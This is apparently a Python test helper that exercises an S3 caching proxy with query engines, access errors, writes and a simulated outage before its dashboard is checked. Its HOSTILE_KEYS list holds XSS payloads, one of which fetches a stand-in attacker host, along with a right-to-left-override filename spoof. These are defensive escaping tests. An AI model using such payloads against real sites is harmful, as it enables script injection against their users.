"""What goes through the proxy before its dashboard is looked at: engines, two clients, errors, writes."""

import contextlib
import itertools
import random
import threading
import time

import botocore.exceptions

import counting
import engines
import servers
from conftest import LAKE, Side

# Keys that strangers might choose. None of them may become anything but text.
HOSTILE_KEYS = [
    "<img src=x onerror=\"document.title='owned';fetch('//attacker.example')\">",
    "a'\"><script>document.title='owned'</script>&amp;.parquet",
    "long/" + "/".join(f"year={year}" for year in range(1910, 2005)) + "/x.parquet",
    "turned/\u202egnp.exe\u2066 and \u0007bell",
    "100%25 off %zz.parquet",
]

PARTITIONS = 48


def sides(served):
    """The analyst, who may do everything, and the reader, who may only read the lake."""

    def side(name, key):
        return Side(name, served.url, key.access_key, key.secret_key, "work-b", served.admin)

    return side("analyst", servers.ANALYST), side("reader", servers.READER)


def fill(direct, lake):
    """More of the lake, in partitions."""
    s3 = direct.boto3()
    body = lake["trades.parquet"]
    for number in range(PARTITIONS):
        s3.put_object(Bucket=LAKE, Key=partition(number), Body=body[number * 1000 :])
    for key in HOSTILE_KEYS:
        s3.put_object(Bucket=LAKE, Key=key, Body=b"x" * 5000)


def partition(number):
    return f"sales/2026/month={number // 4 + 1:02}/part-{number % 4}.parquet"


def once(served):
    """One of everything."""
    analyst, reader = sides(served)
    for _ in range(2):
        engines.duckdb(analyst)
        engines.polars(reader)
        engines.pyarrow(analyst)
    s3 = analyst.boto3()
    for key in HOSTILE_KEYS:
        for _ in range(6):
            s3.get_object(Bucket=LAKE, Key=key)["Body"].read()
    errors(analyst, reader)
    s3.put_object(Bucket="work-b", Key="in/fresh.bin", Body=b"y" * 100_000)
    s3.get_object(Bucket="work-b", Key="in/fresh.bin")["Body"].read()
    counting.purge(analyst, LAKE, "hive/")


def errors(analyst, reader):
    """What clients do wrong."""
    attempts = [
        lambda: reader.boto3().put_object(Bucket=LAKE, Key="x", Body=b"x"),
        lambda: reader.boto3().get_object(Bucket="work-b", Key="x"),
        lambda: analyst.boto3().get_object(Bucket=LAKE, Key="sales/none.parquet"),
        lambda: analyst.boto3().get_object(Bucket=LAKE, Key="empty", Range="bytes=5-"),
    ]
    for attempt in attempts:
        with contextlib.suppress(botocore.exceptions.ClientError):
            attempt()


@contextlib.contextmanager
def minutes(served, distance, seconds):
    """A working day in a few minutes: cold, then warm, new partitions, an outage of the origin.

    Yields what waits for its end; a little of it goes on afterwards.
    """
    analyst, reader = sides(served)
    end = time.monotonic() + seconds
    source = random.Random(4)
    over = threading.Event()

    def repeated(work, pause):
        def run():
            for turn in itertools.count():
                with contextlib.suppress(Exception):
                    work(turn)
                if over.wait(pause * source.uniform(0.5, 1.5)):
                    return

        return run

    ranges = [side.boto3(max_pool_connections=4) for side in (analyst, reader)]

    def read_ranges(turn):
        # New partitions come over time; the newest are read most.
        passed = 1 - max(0, end - time.monotonic()) / seconds
        newest = min(PARTITIONS - 1, 4 + int(passed * PARTITIONS))
        key = partition(max(0, newest - int(source.expovariate(0.25))))
        start = source.randrange(0, 40) * 65_536
        wanted = f"bytes={start}-{start + source.choice([8, 64, 512, 1500]) * 1024}"
        ranges[turn % 2].get_object(Bucket=LAKE, Key=key, Range=wanted)["Body"].read()

    def write(turn):
        s3 = analyst.boto3()
        s3.put_object(Bucket="work-b", Key=f"in/{turn % 20}.bin", Body=b"y" * source.randrange(10_000, 300_000))
        s3.list_objects_v2(Bucket=LAKE, Prefix="sales/")
        if turn % 8 == 0:
            errors(analyst, reader)
        if turn % 25 == 24:
            counting.purge(analyst, LAKE, f"sales/2026/month={source.randrange(1, 13):02}/")

    def outage(turn):
        if turn == 1:
            with distance.cut():
                time.sleep(3)

    kinds = [(read_ranges, 0.05)] * 3 + [
        (lambda turn: engines.duckdb(analyst), 4),
        (lambda turn: engines.polars(reader), 5),
        (lambda turn: engines.pyarrow(analyst), 7),
        (write, 0.8),
        (outage, seconds * 0.3),
    ]
    threads = [threading.Thread(target=repeated(work, pause), daemon=True) for work, pause in kinds]
    for thread in threads:
        thread.start()
    try:
        yield lambda: over.wait(max(0, end - time.monotonic()))
    finally:
        over.set()
        for thread in threads:
            thread.join(60)
